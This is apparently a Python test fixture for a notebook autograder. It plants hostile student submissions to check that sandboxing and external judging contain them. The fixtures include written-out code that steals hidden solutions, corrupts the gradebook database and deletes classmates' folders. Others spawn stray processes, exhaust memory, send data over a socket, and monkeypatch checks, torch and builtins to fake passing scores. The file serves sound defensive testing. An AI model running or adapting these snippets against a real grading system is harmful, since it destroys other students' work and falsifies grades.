"""Hostile and broken submissions: what a class hands in besides honest mistakes.

Each is the full-marks solution of 01_conv1d (8 autograded points, 2 for the written answer) with one attack or one
kind of damage, and states exactly which test cells it loses: an attack that the sandbox or the outside judge defeats
loses nothing beyond what its honest part deserves. tests/test_grading.py grades them all in one class, next to the
good students, and checks the scores, the report's status, the feedback, and that nothing outside each student's
folder changed, that no process was left behind and that no byte left through the network.

They are planted only in the tests' copy of the course, never in the repository's submitted/: graded with
`make grade UNSAFE=1` they would really delete classmates' files and damage the gradebook.
"""
from grading.faults import Fault

A = "01_conv1d"
ALL_TESTS = ("test_output_length", "test_conv1d_loops", "test_same_padding")
FLIP = (("conv1d_loops", "(window * weight[co])", "(window * weight[co].flip(-1))"),)
NETWORK_PORT = 47913  # tests/test_grading.py listens here on 127.0.0.1 while the class is graded

# Where a submission that is not sandboxed would find the course: its own folder's parents, and the temporary
# folders the tests' course copies live in.
FIND = '''
import glob, os, pathlib
def find(*parts):
    here = pathlib.Path.cwd()
    found = [str(p.joinpath(*parts)) for p in [here, *here.parents] if p.joinpath(*parts).exists()]
    for top in ("/tmp", "/work", "/root", "/home"):
        found += glob.glob(os.path.join(top, "**", *parts), recursive=True)[:20]
    return found
'''

HOSTILE = [
    # --- damage that stops nbgrader itself: graded on its own, reported in words -------------------------------
    Fault(A, "invalid-json-01", kind="raw", code='{"cells": [{"cell_type": "code", "source": "oops',
          loses=ALL_TESTS, status="could not be graded: 01_conv1d_exercises.ipynb is not a notebook: it is not valid JSON"),
    Fault(A, "not-a-notebook-01", kind="raw", code='{"hello": "this is JSON, not a notebook"}',
          loses=ALL_TESTS, status="could not be graded: 01_conv1d_exercises.ipynb is not a valid notebook"),
    Fault(A, "no-notebook-01", kind="no_notebook", loses=ALL_TESTS,
          status="could not be graded: the submission folder holds none of the assignment's notebooks"),
    # --- cells damaged the way JupyterLab lets students damage them: mended, then graded ------------------------
    Fault(A, "pasted-test-01", "test_conv1d_loops", kind="paste_test",
          status="graded", says="was a copy of the graded cell 'test_conv1d_loops'"),
    Fault(A, "renamed-test-01", "test_same_padding", kind="rename",
          status="graded", says="unknown cell 'renamed_test_same_padding'"),
    Fault(A, "renamed-solution-01", "conv1d_loops", kind="rename", status="graded"),
    Fault(A, "converted-test-01", "test_conv1d_loops", kind="convert", status="graded"),
    Fault(A, "extra-graded-01", "same_padding", kind="extra_graded", status="graded",
          says="unknown cell 'bonus'"),
    Fault(A, "huge-output-01", "imports", kind="extra_cell", status="graded",
          code="for _ in range(8):\n    print('x' * 4_000_000)"),
    # --- a kernel that dies or will not stop: the cells before count, the rest score 0 --------------------------
    Fault(A, "kernel-exit-01", "test_output_length", kind="extra_cell", code="import os\nos._exit(3)",
          loses=("test_conv1d_loops", "test_same_padding"), status="the kernel stopped in cell"),
    Fault(A, "unstoppable-01", "conv1d_loops", kind="extra_cell",
          code="import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(0.1)",
          loses=("test_conv1d_loops", "test_same_padding"), status="cells timed out"),
    # --- attacks the sandbox stops ---------------------------------------------------------------------------------
    Fault(A, "steal-solutions-01", "conv1d_loops", kind="extra_cell", code=FIND + '''
import json, re
for path in find("solutions", "01_conv1d", "01_conv1d_exercises.ipynb"):
    for cell in json.load(open(path))["cells"]:
        print("".join(cell["source"]))  # the hidden tests, printed into my own feedback
        if "def conv1d_loops" in "".join(cell["source"]):
            exec(re.sub(r"### (BEGIN|END) SOLUTION", "", "".join(cell["source"])))
''', also=(("conv1d_loops", "    unbatched = x.dim() == 2\n", "    raise NotImplementedError()\n"),),
          loses=("test_conv1d_loops",), status="graded"),
    Fault(A, "gradebook-01", "imports", kind="extra_cell", code=FIND + '''
import sqlite3
for path in find("grading", "gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 1000")
        db.commit()
    except Exception as error:
        print(error)
    with open(path, "r+b") as f:
        f.seek(100)
        f.write(b"garbage" * 1000)
''', status="graded"),
    Fault(A, "classmates-01", "imports", kind="extra_cell", code=FIND + '''
import shutil
for folder in find("submitted"):
    for student in os.listdir(folder):
        if student != "classmates-01":
            shutil.rmtree(os.path.join(folder, student), ignore_errors=True)
for folder in find("grading", "autograded"):
    shutil.rmtree(folder, ignore_errors=True)
''', status="graded"),
    Fault(A, "daemon-01", "imports", kind="extra_cell", code='''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "course-daemon-marker"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''', status="graded"),
    Fault(A, "memory-01", "imports", kind="extra_cell", code='''
try:
    hog = bytearray(6 * 2**30)  # 6 GiB
    print("took 6 GiB")
except MemoryError:
    print("no 6 GiB for me")
''', status="graded"),
    Fault(A, "network-01", "imports", kind="extra_cell", code=f'''
import socket
try:
    with socket.create_connection(("127.0.0.1", {NETWORK_PORT}), timeout=3) as connection:
        connection.sendall(b"the solutions, if I had them")
    print("sent")
except OSError as error:
    print("no network:", error)
''', status="graded"),
    # --- attacks on the judging, which happens outside the student's process --------------------------------------
    Fault(A, "patch-check-01", "conv1d_loops", kind="extra_cell", also=FLIP, code='''
from course_lib import checks
checks.check_conv1d = lambda *args, **kwargs: print("✓ conv1d_loops agrees with F.conv1d")
''', loses=("test_conv1d_loops",), says="no record", status="graded"),
    Fault(A, "patch-core-01", "conv1d_loops", kind="extra_cell", also=FLIP, code='''
import course_lib.checks.core as core
core.same = lambda *args, **kwargs: True
''', loses=("test_conv1d_loops",), says="a flipped kernel", status="graded"),
    Fault(A, "patch-torch-01", "conv1d_loops", kind="extra_cell", also=FLIP, code='''
import torch, torch.nn.functional as F
def same_as_mine(x, w, b=None, stride=1, padding=0, dilation=1, groups=1):
    return conv1d_loops(x, w, b, stride, padding, dilation)
F.conv1d = torch.conv1d = same_as_mine
''', loses=("test_conv1d_loops",), says="a flipped kernel", status="graded"),
    Fault(A, "patch-builtins-01", "same_padding", kind="extra_cell",
          also=(("same_padding", "return total // 2, total - total // 2", "return total - total // 2, total // 2"),),
          code="import builtins\nbuiltins.all = lambda *args: True  # every tuple compares equal in the check",
          loses=("test_same_padding",), says="the extra cell on the wrong side", status="graded"),
]
